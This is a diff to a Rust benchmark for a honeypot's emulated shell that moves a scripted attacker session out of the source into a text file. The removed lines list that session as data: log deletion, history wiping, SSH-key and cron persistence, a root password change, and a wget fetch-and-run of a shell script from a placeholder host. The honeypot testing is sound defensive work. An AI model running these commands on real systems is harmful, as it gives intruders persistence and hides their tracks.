@@ -11,53 +11,7 @@ use palisade_honeypot::shell::{Door, Shell, Who, World};
 use palisade_honeypot::{Persona, PersonaConfig};
 
 /// What an automated session of 2025 types, from the first token to the key.
-const COMMANDS: [&str; 45] = [
-    "enable",
-    "system",
-    "shell",
-    "sh",
-    "/bin/busybox ECCHI",
-    "cat /proc/mounts; /bin/busybox ECCHI",
-    r"echo -e '\x6b\x61\x6d\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon",
-    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
-    "dd bs=52 count=1 if=/bin/echo || cat /bin/echo",
-    "cat /bin/ls | head -c 64",
-    "uname -a",
-    "uname -s -v -n -r -m",
-    "cat /proc/cpuinfo | grep name | wc -l",
-    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
-    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
-    "nproc",
-    "lscpu | grep Model",
-    "ls -lh $(which ls)",
-    "which ls",
-    "crontab -l",
-    "w",
-    "top -bn1",
-    "uptime",
-    "whoami",
-    "id",
-    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
-    "ps aux",
-    "ps",
-    "netstat -an",
-    "ifconfig",
-    "cat /etc/passwd",
-    "cat /var/tmp/.var03522123 | head -n 1",
-    "unset HISTFILE; export HISTFILE=/dev/null; history -c",
-    "rm -rf /var/log/*",
-    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
-    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E x\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
-    "(crontab -l; echo '* * * * * /tmp/.x') | crontab -",
-    r#"echo "root:xyz" | chpasswd | bash"#,
-    r#"echo -e "old\nnew\nnew" | passwd | bash"#,
-    "cp /bin/echo .f; >.f; chmod 777 .f; ./.f arg",
-    r"for i in 1 2 3 4 5 6 7 8; do echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00\x00\x00\x00\x00' >> .g; done",
-    "wget http://203.0.113.1/x.sh; chmod 777 x.sh; sh x.sh",
-    "tftp -g -r x 203.0.113.1",
-    "ls -la /home /tmp",
-    "exit",
-];
+const COMMANDS: &str = include_str!("session.txt");
 
 /// Lines that use up everything they may.
 const BOMBS: [&str; 9] = [
@@ -88,7 +42,7 @@ fn main() {
             let address = [192, 0, 2, 1].into();
             let who = Who { user: "root".to_owned(), address, port: 1, door, tty: true };
             let mut shell = Shell::new(&world, &visitors, &who, now);
-            for line in COMMANDS {
+            for line in COMMANDS.lines() {
                 bytes += shell.run(line.as_bytes(), now).output.len();
             }
             shell.finish();
@@ -96,7 +50,7 @@ fn main() {
         let each = begun.elapsed() / sessions;
         println!(
             "{name}: {each:?} a session of {} commands, {} bytes printed",
-            COMMANDS.len(),
+            COMMANDS.lines().count(),
             bytes / sessions as usize
         );
     }
